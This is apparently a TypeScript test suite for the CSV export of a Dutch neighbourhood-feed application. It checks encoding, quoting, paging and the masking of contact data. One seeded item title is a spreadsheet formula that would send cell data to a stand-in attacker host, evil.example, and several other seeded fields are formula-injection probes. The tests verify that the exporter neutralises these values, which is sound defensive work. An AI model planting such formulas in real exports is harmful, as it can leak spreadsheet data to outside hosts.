import { parse } from 'csv-parse/sync'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createApp } from '../../../src/api/app.ts'
import { submitPost } from '../../../src/ingest/submit-post.ts'
import { PostgresSearch } from '../../../src/search/postgres.ts'
import { hideItem } from '../../../src/store/items.ts'
import { saveWijk } from '../../../src/store/wijken.ts'
import { ADMIN_TOKEN } from '../../api/test-app.ts'
import { createTestStore, testDatabaseKind, type TestStore } from '../../helpers/database.ts'
import { NOW, seedItems, seedSource } from '../../helpers/seed-items.ts'

let store: TestStore
let app: ReturnType<typeof createApp>

beforeAll(async () => {
  store = await createTestStore()
  const { db } = store
  const wijk = await saveWijk(db, { slug: 'kersenbuurt', name: 'Kersenbuurt', gemeente: 'Voorbeeldstad', postcodes: ['3572'] })
  const other = await saveWijk(db, { slug: 'appelbuurt', name: 'Appelbuurt', postcodes: ['3573'] })
  const site = await seedSource(db, wijk, { name: 'Buurtsite Kersenbuurt', url: 'https://kersenbuurt.mijnbuurtje.nl', platform: 'mijnbuurtje' })
  const agenda = await seedSource(db, wijk, { name: 'Buurthuis De Kers', url: 'https://buurthuisdekers.nl/agenda', platform: 'ical' })
  const elsewhere = await seedSource(db, other, { name: 'Buurtsite Appelbuurt', url: 'https://appelbuurt.example.nl', platform: 'feed' })
  await seedItems(db, site, wijk, [
    {
      id: 'koffie',
      kind: 'offer',
      categories: ['gezelschap', 'eten'],
      title: 'Koffie; thee en "echte" koek',
      body: 'Elke dinsdag staat de koffie klaar.\nIedereen is welkom; ook met rollator.',
      publishedAt: '2026-11-09T10:00:00+01:00',
    },
    { id: 'formule', kind: 'request', categories: ['digitaal'], title: '=HYPERLINK("https://evil.example/?"&A1,"Klik hier")', body: '@iedereen: wie helpt?', publishedAt: '2026-11-08T10:00:00+01:00', location: { name: '=1+1' } },
    { id: 'min', kind: 'info', categories: ['veiligheid'], title: '-5 graden vannacht', body: '+ strooizout bij de ingang', publishedAt: '2026-11-07T10:00:00+01:00' },
    { id: 'tab', kind: 'info', categories: ['buurt'], title: '\tTabblad', body: '\rRegel', publishedAt: '2026-11-06T10:00:00+01:00' },
    { id: 'oude-vraag', kind: 'request', categories: ['klussen'], title: 'Wie hangt mijn lamp op?', body: 'Ik heb geen trap.', publishedAt: '2026-10-20T10:00:00+02:00' },
    { id: 'verborgen', kind: 'request', categories: ['overig'], title: 'Verborgen bericht', body: 'Verborgen door een buurtmaker.', publishedAt: '2026-11-09T12:00:00+01:00' },
  ])
  await hideItem(db, 'verborgen', NOW)
  await seedItems(db, agenda, wijk, [
    {
      id: 'repair',
      kind: 'event',
      categories: ['klussen'],
      title: 'Repair Café',
      body: 'Samen repareren.',
      startsAt: '2026-11-14T13:00:00+01:00',
      endsAt: '2026-11-14T16:00:00+01:00',
      location: { name: 'Buurthuis De Kers', address: 'Kersenlaan 4' },
      publishedAt: '2026-11-01T10:00:00+01:00',
    },
    { id: 'markt', kind: 'event', categories: ['spullen'], title: 'Kerstmarkt', body: 'Twee dagen markt.', startsAt: '2026-12-19T00:00:00+01:00', endsAt: '2026-12-21T00:00:00+01:00', allDay: true, publishedAt: '2026-11-02T10:00:00+01:00' },
  ])
  await seedItems(db, elsewhere, other, [{ id: 'appel', title: 'Bericht uit de Appelbuurt', publishedAt: '2026-11-09T10:00:00+01:00' }])
  // Through ingestion, as a buurtverbinder forwards it: the contact data is masked before it is stored.
  await submitPost(
    db,
    {
      wijk: 'kersenbuurt',
      platform: 'whatsapp',
      group: { name: 'Buurtapp Kersenbuurt', url: 'https://chat.whatsapp.com/Kersenbuurt' },
      text: 'Gevonden: een zwarte kat met wit befje. Bel 06-12345678 of mail kat@example.nl. Voor het asiel: NL91ABNA0417164300.',
      postedAt: '2026-11-05T09:00:00+01:00',
    },
    NOW,
  )
  app = createApp({ db, search: new PostgresSearch(db, () => NOW), adminToken: ADMIN_TOKEN, now: () => NOW })
})
afterAll(() => store.destroy())

const bearer = { headers: { Authorization: `Bearer ${ADMIN_TOKEN}` } }

async function exportOf(slug: string) {
  const res = await app.request(`/dashboard/${slug}/items.csv`, bearer)
  expect(res.status).toBe(200)
  const bytes = new Uint8Array(await res.arrayBuffer())
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
  const rows = parse(text, { delimiter: ';', bom: true }) as string[][]
  return { res, bytes, text, header: rows[0]!, records: rows.slice(1).map((row) => Object.fromEntries(rows[0]!.map((name, i) => [name, row[i]!]))) }
}

describe(`the CSV export of a wijk on ${testDatabaseKind}`, () => {
  it('is a download for Dutch Excel: UTF-8 with a byte order mark, ";" between fields, a Dutch header', async () => {
    const { res, bytes, text } = await exportOf('kersenbuurt')
    expect(res.headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('Content-Disposition')).toBe('attachment; filename="buurtfeed-kersenbuurt-2026-11-10.csv"')
    expect(res.headers.get('Cache-Control')).toBe('no-store')
    // Streamed as it is read: no ETag (which would hash the whole file first) and no length known up front.
    expect(res.headers.get('ETag')).toBeNull()
    expect(res.headers.get('Content-Length')).toBeNull()
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(text.slice(1).split('\n')[0]).toBe('id;soort;categorieën;titel;samenvatting;link;platform;bron;geplaatst;begint;eindigt;status;opvolging;reacties;plaats')
  })

  it("has every visible item of the wijk, newest first, in Dutch words, and nothing hidden or from another wijk", async () => {
    const { records } = await exportOf('kersenbuurt')
    const forwarded = records.find((r) => r.platform === 'WhatsApp')!.id
    expect(records.map((r) => r.id)).toEqual(['koffie', 'formule', 'min', 'tab', forwarded, 'markt', 'repair', 'oude-vraag'])
    expect(records[0]).toMatchObject({ soort: 'Aanbod', categorieën: 'Gezelschap & ontmoeting, Eten & koken', platform: 'mijnbuurtje.nl' })
    expect(records.find((r) => r.id === 'repair')).toEqual({
      id: 'repair',
      soort: 'Activiteit',
      categorieën: 'Klussen & reparatie',
      titel: 'Repair Café',
      samenvatting: 'Samen repareren.',
      link: 'https://buurthuisdekers.nl/agenda/bericht/repair',
      platform: 'agenda',
      bron: 'Buurthuis De Kers',
      geplaatst: '2026-11-01 10:00',
      begint: '2026-11-14 13:00',
      eindigt: '2026-11-14 16:00',
      status: 'open',
      opvolging: '',
      reacties: '',
      plaats: 'Buurthuis De Kers, Kersenlaan 4',
    })
    // An all-day event ends on its last day, not at the midnight after it.
    expect(records.find((r) => r.id === 'markt')).toMatchObject({ begint: '2026-12-19', eindigt: '2026-12-20' })
    expect(records.find((r) => r.id === 'oude-vraag')).toMatchObject({ soort: 'Hulpvraag', status: 'open', opvolging: 'geen reactie', geplaatst: '2026-10-20 10:00' })
  })

  it('quotes fields with ";", quotes and newlines, so they read back unchanged', async () => {
    const { text, records } = await exportOf('kersenbuurt')
    expect(text).toContain('"Koffie; thee en ""echte"" koek"')
    expect(records.find((r) => r.id === 'koffie')).toMatchObject({
      titel: 'Koffie; thee en "echte" koek',
      samenvatting: 'Elke dinsdag staat de koffie klaar.\nIedereen is welkom; ook met rollator.',
    })
  })

  it('starts every field that looks like a formula with an apostrophe', async () => {
    const { records } = await exportOf('kersenbuurt')
    expect(records.find((r) => r.id === 'formule')).toMatchObject({
      titel: `'=HYPERLINK("https://evil.example/?"&A1,"Klik hier")`,
      samenvatting: "'@iedereen: wie helpt?",
      plaats: "'=1+1",
    })
    expect(records.find((r) => r.id === 'min')).toMatchObject({ titel: "'-5 graden vannacht", samenvatting: "'+ strooizout bij de ingang" })
    expect(records.find((r) => r.id === 'tab')).toMatchObject({ titel: "'\tTabblad", samenvatting: "'\rRegel" })
  })

  it('keeps contact data masked', async () => {
    const { text, records } = await exportOf('kersenbuurt')
    const found = records.find((r) => r.platform === 'WhatsApp')!
    expect(found.samenvatting).toContain('[telefoonnummer verborgen]')
    expect(found.samenvatting).toContain('[e-mail verborgen]')
    expect(found.samenvatting).toContain('[IBAN verborgen]')
    expect(text).not.toMatch(/12345678|kat@example\.nl|NL91ABNA0417164300/)
  })

  it('reads a large wijk a page at a time without losing or repeating items (many first seen at the same moment)', async () => {
    const wijk = await saveWijk(store.db, { slug: 'grote-wijk', name: 'Grote Wijk', postcodes: ['3574'] })
    const source = await seedSource(store.db, wijk, { name: 'Buurtapp Grote Wijk', url: 'https://grotewijk.example.nl', platform: 'whatsapp' })
    await seedItems(store.db, source, wijk, Array.from({ length: 1234 }, (_, i) => ({ id: `groot-${String(i).padStart(4, '0')}`, title: `Bericht ${i}` })))
    // No dates of their own, and one import run saw them all at the same moment (to the microsecond): pages must
    // break the tie by id and keep the microseconds a JS Date would drop.
    await sql`update items set first_seen_at = '2026-11-09 10:00:00.123456+01' where wijk_slug = 'grote-wijk'`.execute(store.db)
    const { records } = await exportOf('grote-wijk')
    expect(records).toHaveLength(1234)
    expect(new Set(records.map((r) => r.id)).size).toBe(1234)
  })

  it('is only a header for a wijk without items', async () => {
    await saveWijk(store.db, { slug: 'lege-wijk', name: 'Lege Wijk', postcodes: ['3575'] })
    const { bytes, records, header } = await exportOf('lege-wijk')
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(header).toHaveLength(15)
    expect(records).toEqual([])
  })
})
